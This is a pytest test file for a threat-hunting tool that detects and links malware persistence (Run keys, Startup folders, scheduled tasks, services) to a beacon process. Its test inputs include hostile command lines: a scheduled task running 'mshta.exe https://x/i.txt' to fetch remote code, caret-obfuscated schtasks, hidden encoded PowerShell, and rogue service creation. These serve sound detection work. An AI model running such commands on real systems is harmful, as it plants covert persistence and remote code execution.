"""Persistence evidence: each kind, and how an entry is linked to the beacon's process."""

from __future__ import annotations

import base64

import pytest

from beaconhunt.enrich.process import (
    FileCreate,
    RegSet,
    link_persistence,
    persistence_entries,
    persistence_evidence,
    persistence_rules,
)
from beaconhunt.model import ProcessInfo
from beaconhunt.store.schema import FILE_CREATE_COLUMNS, REG_SET_COLUMNS

UPD = r"C:\Users\bob\AppData\Roaming\upd\upd.exe"
BEACON = ProcessInfo(host="WS1.corp.example", process_guid="{AAAA-1}", image=UPD,
                     command_line=f'"{UPD}" --check')  # fmt: skip
SID = r"HKU\S-1-5-21-1111111111-2222222222-3333333333-1001"
CV = r"\Software\Microsoft\Windows\CurrentVersion"
PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"


def own_reg(target: str, details: str = UPD, event_type: str | None = "SetValue") -> RegSet:
    """A value set by the beacon's own process."""
    return RegSet("ws1.corp.example", "{aaaa-1}", UPD, target, details, event_type)


def own_file(target: str) -> FileCreate:
    return FileCreate("WS1.corp.example", "{AAAA-1}", UPD, target)


def own_proc(command_line: str, image: str = r"C:\Windows\System32\schtasks.exe") -> ProcessInfo:
    """A process creation by the beacon's image (its child)."""
    return ProcessInfo(host="WS1.corp.example", process_guid="{CHILD}", image=image,
                       command_line=command_line, parent_image=UPD)  # fmt: skip


def codes_of(
    files: list[FileCreate] = [],  # noqa: B006 - never mutated
    regs: list[RegSet] = [],  # noqa: B006
    procs: list[ProcessInfo] = [],  # noqa: B006
    beacon: ProcessInfo = BEACON,
) -> dict[str, str]:
    return {e.code: e.text for e in persistence_evidence(beacon, files, regs, procs)}


# -- persistence.run_key ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "target",
    [
        r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater",
        rf"{SID}{CV}\Run\Updater",
        rf"HKCU{CV}\RunOnce\Updater",
        r"HKLM\SOFTWARE\WOW6432Node\Microsoft\Windows\CurrentVersion\Run\Updater",
        rf"HKLM\Software{CV[9:]}\Policies\Explorer\Run\Updater",
        rf"HKLM\SOFTWARE{CV[9:]}\RunOnceEx\0001\Depend\1",
        rf"HKLM\SOFTWARE{CV[9:]}\RunServices\Updater",
        r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Userinit",
        r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Shell",
        r"\REGISTRY\MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater",
        rf"{SID.lower()}{CV.upper()}\RUN\updater",
    ],
)
def test_run_key(target: str) -> None:
    text = codes_of(regs=[own_reg(target)])["persistence.run_key"]
    assert "set by the same process" in text and "upd.exe" in text


@pytest.mark.parametrize(
    ("target", "event_type"),
    [
        (rf"{SID}{CV}\Runtime\Updater", "SetValue"),
        (rf"{SID}{CV}\Explorer\RunMRU\a", "SetValue"),
        (rf"{SID}{CV}\Run", "SetValue"),  # the key itself, no value
        (r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\AutoAdminLogon", None),
        (r"HKLM\System\CurrentControlSet\Services\upd\Start", "SetValue"),
        (rf"{SID}{CV}\Run\Updater", "DeleteValue"),
    ],
)
def test_not_run_key(target: str, event_type: str | None) -> None:
    assert "persistence.run_key" not in codes_of(regs=[own_reg(target, event_type=event_type)])


# -- persistence.startup_folder ---------------------------------------------------------------

STARTUP = r"\Microsoft\Windows\Start Menu\Programs\Startup"


@pytest.mark.parametrize(
    "target",
    [
        rf"C:\Users\bob\AppData\Roaming{STARTUP}\upd.lnk",
        r"C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\upd.vbs",
        rf"\Device\HarddiskVolume3\Users\bob\AppData\Roaming{STARTUP}\x.bat",
    ],
)
def test_startup_folder(target: str) -> None:
    text = codes_of(files=[own_file(target)])["persistence.startup_folder"]
    assert text.startswith("file written to a Startup folder by the same process: ")


@pytest.mark.parametrize(
    "target",
    [
        r"C:\Users\bob\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Accessories\x.lnk",
        rf"C:\Users\bob\AppData\Roaming{STARTUP}",
        r"C:\Users\bob\Desktop\Startup\x.lnk",
    ],
)
def test_not_startup_folder(target: str) -> None:
    assert codes_of(files=[own_file(target)]) == {}


# -- persistence.scheduled_task ---------------------------------------------------------------


def _b64(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    ("command_line", "image"),
    [
        (r'"C:\Windows\System32\schtasks.exe" /Create /sc MINUTE /MO 60 /TN MSOFFICE_ /TR '
         r'"mshta.exe https://x/i.txt" /F', r"C:\Windows\System32\schtasks.exe"),
        ("SCHTASKS -create -tn x -tr c:\\x.exe -sc onlogon", r"C:\Windows\System32\schtasks.exe"),
        ('cmd.exe /c "schtasks /create /tn x /tr c:\\x.exe /sc daily"',
         r"C:\Windows\System32\cmd.exe"),
        ("cmd /c s^c^h^t^a^s^k^s /cr^eate /tn x /tr x", r"C:\Windows\System32\cmd.exe"),
        ("powershell -c Register-ScheduledTask -TaskName x -Action $a", PS),
        (f"powershell -enc {_b64('$a = New-ScheduledTaskAction -Execute x.exe')}", PS),
    ],
)  # fmt: skip
def test_scheduled_task_by_command(command_line: str, image: str) -> None:
    text = codes_of(procs=[own_proc(command_line, image)])["persistence.scheduled_task"]
    assert text.startswith("scheduled task created by a child of the same image: ")


def test_scheduled_task_file() -> None:
    files = [FileCreate("WS1.corp.example", "{AAAA-1}", UPD, r"C:\Windows\System32\Tasks\Upd")]
    assert "scheduled task file written" in codes_of(files=files)["persistence.scheduled_task"]


@pytest.mark.parametrize(
    "command_line",
    [
        "schtasks /query /fo LIST",
        "schtasks /run /tn Updater",
        "powershell -c Get-ScheduledTask",
        "notepad.exe create",
        "cmd /c echo schtasks is a tool && dir /create",  # /create long after, other command
    ],
)
def test_not_scheduled_task(command_line: str) -> None:
    assert codes_of(procs=[own_proc(command_line)]) == {}


def test_schtasks_far_from_create_is_not_a_task() -> None:
    line = "schtasks /query " + "x " * 60 + "/create"
    assert codes_of(procs=[own_proc(line)]) == {}


# -- persistence.service ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "command_line",
    [
        r'sc.exe create upd binPath= "C:\Users\bob\AppData\Roaming\upd\upd.exe"',
        r"C:\Windows\System32\sc.exe \\srv1 create upd binpath= c:\x.exe",
        r'sc config upd binpath= "c:\x.exe"',
        r'cmd /c "sc create upd binPath= c:\x.exe start= auto"',
        "powershell -c New-Service -Name upd -BinaryPathName c:\\x.exe",
    ],
)
def test_service_by_command(command_line: str) -> None:
    found = codes_of(procs=[own_proc(command_line, r"C:\Windows\System32\sc.exe")])
    assert found["persistence.service"].startswith("service created by a child of the same image")


@pytest.mark.parametrize(
    "target",
    [
        r"HKLM\System\CurrentControlSet\Services\upd\ImagePath",
        r"HKLM\SYSTEM\ControlSet001\Services\upd\ImagePath",
        r"HKLM\System\CurrentControlSet\Services\upd\Parameters\ServiceDll",
    ],
)
def test_service_registry(target: str) -> None:
    # Windows' services.exe writes the value, so the link is that it names the image.
    reg = RegSet("WS1.corp.example", "{SCM}", r"C:\Windows\system32\services.exe", target, UPD)
    text = codes_of(regs=[reg])["persistence.service"]
    assert text.startswith("service program registered naming the same image: ")


@pytest.mark.parametrize(
    "command_line",
    ["sc query upd", "sc config upd start= auto", "sc stop upd", "Get-Service",
     "cmd /c sc query upd & echo create", "sc config upd start= auto && echo binpath= x"],
)  # fmt: skip
def test_not_service(command_line: str) -> None:
    assert codes_of(procs=[own_proc(command_line, r"C:\Windows\System32\sc.exe")]) == {}


def test_service_other_value_is_not_service() -> None:
    reg = own_reg(r"HKLM\System\CurrentControlSet\Services\upd\Start", "DWORD (0x00000002)")
    assert codes_of(regs=[reg]) == {}


# -- linking ----------------------------------------------------------------------------------

RUN = rf"{SID}{CV}\Run\Updater"


def test_same_image_on_another_host() -> None:
    reg = RegSet("WS9", "{OTHER}", UPD.upper(), RUN, "unrelated.exe")
    text = codes_of(regs=[reg])["persistence.run_key"]
    assert text.startswith("autostart registry value set by the same image on WS9: ")


@pytest.mark.parametrize(
    "details",
    [
        UPD,
        f'"{UPD}" --hidden',
        r"%APPDATA%\upd\upd.exe",
        r"%UserProfile%\AppData\Roaming\upd\upd.exe",
        r"\??\C:\USERS\BOB\APPDATA\ROAMING\UPD\UPD.EXE",
        r"rundll32.exe C:\Users\bob\AppData\Roaming\upd\upd.exe,Start",
    ],
)
def test_value_naming_the_image(details: str) -> None:
    reg = RegSet("WS1.corp.example", "{REG}", r"C:\Windows\regedit.exe", RUN, details)
    assert "naming the same image" in codes_of(regs=[reg])["persistence.run_key"]


@pytest.mark.parametrize(
    "details", [UPD + ".bak", r"C:\Users\bob\AppData\Roaming\upd\upd.exe2", r"C:\other\upd.exe"]
)
def test_value_naming_another_file_is_not_linked(details: str) -> None:
    reg = RegSet("WS1.corp.example", "{REG}", r"C:\Windows\regedit.exe", RUN, details)
    assert codes_of(regs=[reg]) == {}


def test_unrelated_persistence_is_not_linked() -> None:
    reg = RegSet("WS1.corp.example", "{X}", r"C:\Program Files\Teams\Update.exe", RUN,
                 r"C:\Program Files\Teams\Update.exe --processStart")  # fmt: skip
    assert codes_of(regs=[reg]) == {}


SHARED = ProcessInfo(host="WS1", process_guid="{PS-1}", image=PS,
                     command_line=f"{PS} -nop -w hidden -enc {_b64('Start-Sleep 60')}")  # fmt: skip


def test_shared_windows_image_is_not_linked_by_image() -> None:
    # Any PowerShell on any host writing a Run key is not the beacon's persistence.
    reg = RegSet("WS2", "{PS-2}", PS, RUN, "powershell -c Get-Date")
    task = ProcessInfo(host="WS2", process_guid="{T}", image=r"C:\Windows\System32\schtasks.exe",
                       command_line=f"schtasks /create /tr {PS}", parent_image=PS)  # fmt: skip
    assert codes_of(regs=[reg], procs=[task], beacon=SHARED) == {}


def test_shared_windows_image_is_linked_by_its_arguments() -> None:
    reg = RegSet("WS1", "{REG}", r"C:\Windows\regedit.exe", RUN, SHARED.command_line)
    text = codes_of(regs=[reg], beacon=SHARED)["persistence.run_key"]
    assert "naming the same command line" in text


def test_child_of_the_same_process_by_image_and_command_line() -> None:
    task = ProcessInfo(host="WS1", process_guid="{T}", image=r"C:\Windows\System32\schtasks.exe",
                       command_line="schtasks /create /tn x /tr y", parent_image=PS,
                       parent_command_line=SHARED.command_line)  # fmt: skip
    text = codes_of(procs=[task], beacon=SHARED)["persistence.scheduled_task"]
    assert "by a child of a process with the same image and command line" in text


def test_strongest_link_is_shown_and_the_rest_counted() -> None:
    regs = [
        RegSet("WS1.corp.example", "{REG}", r"C:\Windows\regedit.exe", RUN + "2", UPD),
        RegSet("WS7", "{X}", UPD, RUN + "3", "x"),
        own_reg(RUN),
    ]
    text = codes_of(regs=regs)["persistence.run_key"]
    assert "by the same process" in text and text.endswith(f'Run\\Updater = "{UPD}" (+2 more)')


def test_classify_once_link_many() -> None:
    entries = persistence_entries([own_file(rf"C:\Users\bob\AppData\Roaming{STARTUP}\u.lnk")],
                                  [own_reg(RUN)], [own_proc("schtasks /create /tn x")])  # fmt: skip
    assert [e.code for e in entries] == [
        "persistence.startup_folder",
        "persistence.run_key",
        "persistence.scheduled_task",
    ]
    assert link_persistence(BEACON, entries) == persistence_evidence(
        BEACON, [own_file(rf"C:\Users\bob\AppData\Roaming{STARTUP}\u.lnk")], [own_reg(RUN)],
        [own_proc("schtasks /create /tn x")],
    )  # fmt: skip
    assert link_persistence(ProcessInfo(image=r"C:\x\other.exe"), entries) == ()


def test_rules_can_be_chosen() -> None:
    only_tasks = persistence_rules(["persistence.scheduled_task"])
    found = persistence_evidence(BEACON, [], [own_reg(RUN)], [own_proc("schtasks /create")],
                                 rules=only_tasks)  # fmt: skip
    assert [e.code for e in found] == ["persistence.scheduled_task"]


def test_records_from_store_rows() -> None:
    f = FileCreate.from_row({c: None for c in FILE_CREATE_COLUMNS} | {
        "host": "WS1", "ts": 1.5, "pid": 42, "target_filename": "C:\\x"})  # fmt: skip
    assert (f.host, f.ts, f.pid, f.target_filename, f.image) == ("WS1", 1.5, 42, "C:\\x", None)
    r = RegSet.from_row({c: f"v-{c}" for c in REG_SET_COLUMNS} | {"ts": 2, "pid": 7})
    assert (r.target_object, r.details, r.event_type, r.ts, r.pid) == (
        "v-target_object", "v-details", "v-event_type", 2.0, 7)  # fmt: skip
    assert RegSet.from_row({}) == RegSet()
